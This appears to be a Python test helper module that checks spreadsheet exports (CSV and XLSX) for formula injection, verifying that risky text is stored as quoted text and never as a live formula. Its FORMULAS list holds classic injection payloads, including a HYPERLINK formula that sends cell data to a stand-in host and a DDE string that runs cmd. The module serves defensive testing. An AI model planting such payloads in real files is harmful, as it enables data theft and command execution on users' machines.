"""Shared checks for exported files: what a spreadsheet would run must never come out as a formula."""

import csv
import io

from openpyxl import load_workbook

# Texts a spreadsheet could run: the classic injection payloads, one per dangerous first character.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(content: bytes):
    assert content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes):
    """Every non-empty cell of every sheet, read back with openpyxl (formulas not evaluated)."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def assert_no_formula(content: bytes):
    cells = xlsx_cells(content)
    assert cells
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []


def assert_text_cell(cell, text):
    """The text kept exactly, stored as text and marked like a text typed after an apostrophe."""
    # XML reads a carriage return back as a line feed; the rest comes back exactly.
    assert cell.value == text.replace("\r", "\n")
    assert cell.data_type == "s"
    assert cell.quotePrefix
